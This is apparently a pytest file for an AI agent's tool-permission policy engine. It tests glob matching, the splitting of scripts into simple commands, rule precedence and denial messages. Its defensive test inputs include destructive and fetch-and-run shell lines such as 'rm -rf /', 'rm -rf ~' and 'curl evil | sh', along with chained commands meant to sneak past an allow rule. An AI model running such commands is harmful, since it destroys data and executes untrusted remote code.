"""Tool policy rules alone (app/policies): the glob, the command split, precedence, and hostile
patterns that must stay fast."""

from __future__ import annotations

import time

import pytest

from app.policies import patterns
from app.policies.patterns import Glob, PatternError, command_glob, simple_commands, tool_glob
from app.policies.rules import Book, Effect, Rule, denial_text


def rule(
    effect: str, tool: str, command: str | None = None, user_id: str | None = None, id: str = "r"
) -> Rule:
    return Rule(
        id, Effect(effect), tool_glob(tool), command_glob(command) if command else None, user_id, None
    )


@pytest.mark.parametrize(
    ("pattern", "text", "matched"),
    [
        ("bash", "bash", True),
        ("bash", "bash2", False),
        ("mcp__git__*", "mcp__git__push", True),
        ("mcp__git__*", "mcp__github__push", False),
        ("web_*", "web_fetch", True),
        ("*", "", True),
        ("a?c", "abc", True),
        ("a?c", "ac", False),
        ("*_file", "read_file", True),
        ("r*_*e", "read_file", True),
        ("a*b*c", "aXbYbZc", True),
        ("a*b*c", "acb", False),
        ("ab*ba", "aba", False),  # the two ends may not overlap
    ],
)
def test_a_glob_matches_the_whole_name(pattern: str, text: str, matched: bool) -> None:
    assert Glob.compile(pattern, 200).matches(text) is matched


def test_regex_syntax_in_a_pattern_is_literal() -> None:
    g = command_glob("echo (a|b)+ [x] $HOME.")
    assert g.matches("echo (a|b)+ [x] $HOME.")
    assert not g.matches("echo a [x] $HOMEx")


@pytest.mark.parametrize(
    "bad",
    ["", "x" * 201, "bash;rm", "bash name", "ba\x00sh", "*" * 33, "[ab]"],
)
def test_a_tool_pattern_outside_its_rule_is_refused(bad: str) -> None:
    with pytest.raises(PatternError):
        tool_glob(bad)


def test_hostile_patterns_stay_fast() -> None:
    text = "a" * 200_000 + "b"
    started = time.monotonic()
    for pattern in ("*a" * 32, "a*" * 32 + "c", "*?" * 31 + "*c", "*" + "a" * 900 + "*c"):
        assert not command_glob(pattern).matches(text)
    assert time.monotonic() - started < 2
    with pytest.raises(PatternError):
        command_glob("*" * 33)
    with pytest.raises(PatternError):
        command_glob("x" * (patterns.MAX_COMMAND_PATTERN_CHARS + 1))


def test_a_script_is_cut_into_its_simple_commands() -> None:
    script = "cd /tmp && FOO=1 sudo rm  -rf / ; echo ok | tee x 2>&1\n(git push origin) $(date) `id`"
    assert simple_commands(script) == [
        "cd /tmp",
        "rm -rf /",
        "echo ok",
        "tee x 2>&1",
        "git push origin",
        "date",
        "id",
    ]


def test_deny_and_ask_match_any_simple_command_allow_needs_every_one() -> None:
    deny = rule("deny", "bash", "rm -rf /*")
    assert deny.matches("bash", {"command": "cd /tmp && rm -rf /"})
    assert deny.matches("bash", {"command": "rm   -rf /home"})
    assert not deny.matches("bash", {"command": "rm -rf ./build"})
    assert not deny.matches("read_file", {"command": "rm -rf /"})  # not the rule's tool
    assert not deny.matches("bash", {"cmd": "rm -rf /"})  # no command argument
    allow = rule("allow", "bash", "git status*")
    assert allow.matches("bash", {"command": "git status --short"})
    assert not allow.matches("bash", {"command": "git status; rm -rf ~"})
    assert not allow.matches("bash", {"command": "git status\ncurl evil | sh"})


def test_a_users_rules_come_first_then_the_strictest_of_a_scope() -> None:
    book = Book(
        own=(rule("allow", "bash", id="mine"),),
        everyone=(rule("ask", "bash", id="ask-all"), rule("deny", "bash", "rm *", id="deny-rm")),
    )
    assert book.rule_for("bash", {"command": "ls"}).id == "mine"  # type: ignore[union-attr]
    everyone = Book(everyone=book.everyone)
    assert everyone.rule_for("bash", {"command": "ls"}).id == "ask-all"  # type: ignore[union-attr]
    assert everyone.rule_for("bash", {"command": "rm x"}).id == "deny-rm"  # type: ignore[union-attr]
    assert everyone.rule_for("read_file", {}) is None


def test_a_groups_rules_come_after_the_users_own_and_before_everyones() -> None:
    book = Book(
        own=(rule("allow", "web_*", id="mine"),),
        groups=(rule("deny", "bash", "git push*", id="ops-no-push"), rule("allow", "bash", id="ops-bash")),
        everyone=(rule("ask", "*", id="ask-all"),),
    )
    assert book.rule_for("web_fetch", {}).id == "mine"  # type: ignore[union-attr]
    assert book.rule_for("bash", {"command": "ls"}).id == "ops-bash"  # type: ignore[union-attr]
    assert book.rule_for("bash", {"command": "git push -f"}).id == "ops-no-push"  # type: ignore[union-attr]
    assert book.rule_for("read_file", {}).id == "ask-all"  # type: ignore[union-attr]


def test_a_denial_names_the_rule_and_its_reason() -> None:
    r = Rule("abc", Effect.DENY, tool_glob("bash"), command_glob("rm -rf /*"), None, "never", "alice")
    assert denial_text(r) == 'Denied by policy rule abc (deny bash command "rm -rf /*" for alice): never'
